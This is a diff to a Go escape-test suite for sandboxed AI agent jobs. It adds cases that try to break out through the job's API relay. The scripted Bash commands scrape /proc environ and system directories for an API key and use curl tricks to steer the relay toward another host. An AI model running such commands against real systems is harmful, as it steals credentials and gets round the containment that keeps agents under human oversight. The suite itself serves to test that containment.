@@ -10,6 +10,7 @@ import (
 	"regexp"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -90,6 +91,10 @@ func egressAttacks() []attack {
 Host: allowed.test:`+allowedPort+`
 
 `)},
+		{"relay-key", "find the API key: every process's environment and every file it can read", "only the relay's placeholder",
+			v + `a='sk-attack-'; b='not-a-real-key'; out=$( { cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -E "ANTHROPIC|$a$b"; grep -rl "$a$b" /etc /home /tmp /workspace /opt /run 2>/dev/null; } | sort -u | tr '\n' ' '); echo "$out" | grep -q "$a$b" && V relay-key ESCAPED "$out" || V relay-key BLOCKED "$out"`},
+		{"relay-redirect", "make the relay carry the key to another host (a Host header, an absolute URL, a CONNECT)", "the relay only ever talks to the fleet's API",
+			v + `out=$( { curl -sS -m 5 -H 'Host: allowed.test:` + allowedPort + `' http://127.0.0.1:3129/steal; curl -sS -m 5 -x http://127.0.0.1:3129 http://allowed.test:` + allowedPort + `/steal; curl -sS -m 5 -p -x http://127.0.0.1:3129 https://allowed.test:` + allowedPort + `/steal; } 2>&1 | tr '\n' ' '); echo "$out" | grep -q allowed-service && V relay-redirect ESCAPED "$out" || V relay-redirect BLOCKED "$out"`},
 		{"egress-smuggle-pipelined", "pipeline a second request, for the host's loopback service, behind one to the listed name", "refused or sent to the listed service",
 			smuggle("egress-smuggle-pipelined", `GET http://allowed.test:`+allowedPort+`/ HTTP/1.1
 Host: allowed.test:`+allowedPort+`
@@ -213,6 +218,27 @@ func runAttackJob(m *testbed.Machine, agent string, script []testbed.Turn) (*api
 	return &j, stand
 }
 
+// runRelayedJob runs a job of an agent with network = "egress", whose
+// Claude Code reaches the API through its job's relay: the relay dials the
+// fleet's API (127.0.0.1:apiPort, as the env file says) from the machine,
+// so the stand-in is served on the machine's loopback.
+func runRelayedJob(m *testbed.Machine, agent string, script []testbed.Turn) (*api.Job, *testbed.API) {
+	m.T.Helper()
+	ln, err := testbed.ListenInNetns(m.PID, "127.0.0.1:"+apiPort)
+	if err != nil {
+		m.T.Fatalf("listening on the machine's loopback: %v", err)
+	}
+	stand := testbed.ServeAPI(m.T, ln, script)
+	id := strings.TrimSpace(m.Run("herdctlctl", "trigger", agent))
+	var j api.Job
+	m.Eventually(5*time.Minute, "job "+id+" to end", func() bool {
+		m.CtlJSON(&j, "job", "--json", id)
+		return api.Finished(j.Status)
+	})
+	ln.Close()
+	return &j, stand
+}
+
 // row is one line of docs/security.md.
 type row struct{ what, expected, observed, verdict string }
 
@@ -246,7 +272,13 @@ func TestEscapeSuite(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	allowed := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "allowed-service") })}
+	var keyed atomic.Int32 // requests to the allowed service that carried a credential
+	allowed := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+		if req.Header.Get("X-Api-Key") != "" || req.Header.Get("Authorization") != "" {
+			keyed.Add(1)
+		}
+		fmt.Fprintln(w, "allowed-service")
+	})}
 	go allowed.Serve(aln)
 	t.Cleanup(func() { allowed.Close() })
 	m.Start()
@@ -290,7 +322,7 @@ func TestEscapeSuite(t *testing.T) {
 		script = append(script, testbed.Turn{Tool: "Bash", Input: map[string]any{"command": a.command, "description": a.id}})
 	}
 	script = append(script, testbed.Turn{Text: "done"})
-	lj, stand := runAttackJob(m, "leaker", script)
+	lj, stand := runRelayedJob(m, "leaker", script)
 	got = verdicts(stand)
 	if ok := got["egress-allowed"]; !strings.Contains(ok[1], "allowed-service") {
 		t.Errorf("the leaker could not reach its one allowed name, so its refusals prove nothing: %q", ok[1])
@@ -302,6 +334,9 @@ func TestEscapeSuite(t *testing.T) {
 			continue
 		}
 		record(a.what, a.expected, vd[1], vd[0] == "BLOCKED")
+	}
+	if n := keyed.Load(); n > 0 {
+		t.Errorf("%d requests with a credential reached the allowed service", n)
 	}
 	denials, _ := m.Try("sh", "-c", "journalctl --no-pager -o cat HERDCTL_JOB="+lj.ID+" HERDCTL_EGRESS=deny | wc -l")
 	if n, _ := strconv.Atoi(strings.TrimSpace(denials)); n < 4 || lj.EgressDenied < 4 {
